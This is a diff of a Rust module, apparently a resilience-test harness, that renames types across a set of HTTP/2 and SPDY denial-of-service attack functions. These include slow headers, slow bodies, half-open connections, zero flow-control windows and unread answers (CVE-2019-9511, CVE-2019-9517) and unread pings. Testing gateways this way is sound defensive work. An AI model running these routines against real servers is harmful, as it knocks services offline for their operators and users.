@@ -7,9 +7,9 @@ use std::net::{SocketAddr, TcpStream};
 use std::thread;
 use std::time::{Duration, Instant};
 
-use super::victim::{FEW, Gateway};
+use super::victim::{FEW, VictimGateway};
 use super::wire::{
-    Protocol, SpdyBlocks, Wire, control, frame, h2, has_ended, pair, request_block, spdy,
+    SpdyBlocks, Wire, WireProtocol, control, frame, h2, has_ended, pair, request_block, spdy,
 };
 
 /// The number of sessions of one attacker.
@@ -18,13 +18,13 @@ const SESSIONS: usize = 40;
 const STREAMS: u32 = 100;
 
 /// An attack on a gateway: `origin` is an honest one. Returns the number of frames or connections.
-pub type Attack = fn(Gateway, SocketAddr, Instant) -> io::Result<u64>;
+pub type SlowAttack = fn(VictimGateway, SocketAddr, Instant) -> io::Result<u64>;
 
 /// The beginnings of the connections of half-open attacks.
 const BEGINNINGS: [&[u8]; 3] = [b"", b"PRI * HTTP/2.0\r\n", &[0x80, 3, 0, 1]];
 
 /// Holds 200 connections that have sent half a preface.
-pub fn half_open(gateway: Gateway, _: SocketAddr, until: Instant) -> io::Result<u64> {
+pub fn half_open(gateway: VictimGateway, _: SocketAddr, until: Instant) -> io::Result<u64> {
     let mut held = Vec::new();
     while Instant::now() < until && held.len() < 200 {
         held.push(begin(gateway, held.len())?);
@@ -35,7 +35,7 @@ pub fn half_open(gateway: Gateway, _: SocketAddr, until: Instant) -> io::Result<
 
 /// Holds as many half-open connections as the gateway permits in total, and keeps replacing the
 /// oldest. A new session has a quarter of a second before later connections could displace it.
-pub fn half_open_full(gateway: Gateway, _: SocketAddr, until: Instant) -> io::Result<u64> {
+pub fn half_open_full(gateway: VictimGateway, _: SocketAddr, until: Instant) -> io::Result<u64> {
     let mut held = VecDeque::new();
     let mut begun = 0;
     while Instant::now() < until {
@@ -49,7 +49,7 @@ pub fn half_open_full(gateway: Gateway, _: SocketAddr, until: Instant) -> io::Re
     Ok(begun as u64)
 }
 
-fn begin(gateway: Gateway, number: usize) -> io::Result<TcpStream> {
+fn begin(gateway: VictimGateway, number: usize) -> io::Result<TcpStream> {
     let kind = number % BEGINNINGS.len();
     let address = if kind == 2 { gateway.spdy } else { gateway.h2 };
     let mut stream = TcpStream::connect(address)?;
@@ -61,7 +61,7 @@ fn begin(gateway: Gateway, number: usize) -> io::Result<TcpStream> {
 }
 
 /// Sends a header block a byte at a time, in CONTINUATION frames.
-pub fn slow_head(gateway: Gateway, origin: SocketAddr, until: Instant) -> io::Result<u64> {
+pub fn slow_head(gateway: VictimGateway, origin: SocketAddr, until: Instant) -> io::Result<u64> {
     let block = request_block(
         "GET",
         &origin.to_string(),
@@ -88,7 +88,7 @@ pub fn slow_head(gateway: Gateway, origin: SocketAddr, until: Instant) -> io::Re
 }
 
 /// Sends bodies a byte at a time, on many streams at once.
-pub fn slow_body(gateway: Gateway, origin: SocketAddr, until: Instant) -> io::Result<u64> {
+pub fn slow_body(gateway: VictimGateway, origin: SocketAddr, until: Instant) -> io::Result<u64> {
     let block = request_block("POST", &origin.to_string(), "/");
     let mut wires: Vec<Wire> = sessions(gateway)?.into_iter().take(10).collect();
     let ids = || (0..STREAMS).map(|stream| stream * 2 + 1);
@@ -113,7 +113,11 @@ pub fn slow_body(gateway: Gateway, origin: SocketAddr, until: Instant) -> io::Re
 }
 
 /// Opens all windows, asks for large answers and reads none of them (CVE-2019-9517).
-pub fn unread_answers(gateway: Gateway, origin: SocketAddr, until: Instant) -> io::Result<u64> {
+pub fn unread_answers(
+    gateway: VictimGateway,
+    origin: SocketAddr,
+    until: Instant,
+) -> io::Result<u64> {
     let block = request_block("GET", &origin.to_string(), "/large");
     let mut held = Vec::new();
     for mut wire in sessions(gateway)?.into_iter().take(10) {
@@ -134,7 +138,7 @@ pub fn unread_answers(gateway: Gateway, origin: SocketAddr, until: Instant) -> i
 }
 
 /// Asks for large answers with windows of no bytes (CVE-2019-9511).
-pub fn shut_windows(gateway: Gateway, origin: SocketAddr, until: Instant) -> io::Result<u64> {
+pub fn shut_windows(gateway: VictimGateway, origin: SocketAddr, until: Instant) -> io::Result<u64> {
     let block = request_block("GET", &origin.to_string(), "/large");
     let mut wires: Vec<Wire> = sessions(gateway)?.into_iter().take(10).collect();
     for wire in &mut wires {
@@ -163,13 +167,13 @@ pub fn shut_windows(gateway: Gateway, origin: SocketAddr, until: Instant) -> io:
 
 /// The same as [`unread_answers`] over SPDY.
 pub fn spdy_unread_answers(
-    gateway: Gateway,
+    gateway: VictimGateway,
     origin: SocketAddr,
     until: Instant,
 ) -> io::Result<u64> {
     let mut held = Vec::new();
     for _ in 0..10 {
-        let mut wire = Wire::connect(gateway.spdy, Protocol::Spdy)?;
+        let mut wire = Wire::connect(gateway.spdy, WireProtocol::Spdy)?;
         let mut blocks = SpdyBlocks::default();
         let window = [&1u32.to_be_bytes()[..], &pair(7, 0x7fff_ffff)].concat();
         wire.send(&control(spdy::SETTINGS, 0, &window))?;
@@ -184,7 +188,7 @@ pub fn spdy_unread_answers(
 }
 
 /// Pings and reads no answers.
-pub fn unread_pings(gateway: Gateway, _: SocketAddr, until: Instant) -> io::Result<u64> {
+pub fn unread_pings(gateway: VictimGateway, _: SocketAddr, until: Instant) -> io::Result<u64> {
     let pings = frame(h2::PING, 0, 0, &[7; 8]).repeat(100);
     let mut sent = 0;
     for mut wire in sessions(gateway)? {
@@ -201,9 +205,9 @@ pub fn unread_pings(gateway: Gateway, _: SocketAddr, until: Instant) -> io::Resu
     Ok(sent)
 }
 
-fn sessions(gateway: Gateway) -> io::Result<Vec<Wire>> {
+fn sessions(gateway: VictimGateway) -> io::Result<Vec<Wire>> {
     (0..SESSIONS)
-        .map(|_| Wire::connect(gateway.h2, Protocol::H2))
+        .map(|_| Wire::connect(gateway.h2, WireProtocol::H2))
         .collect()
 }
 
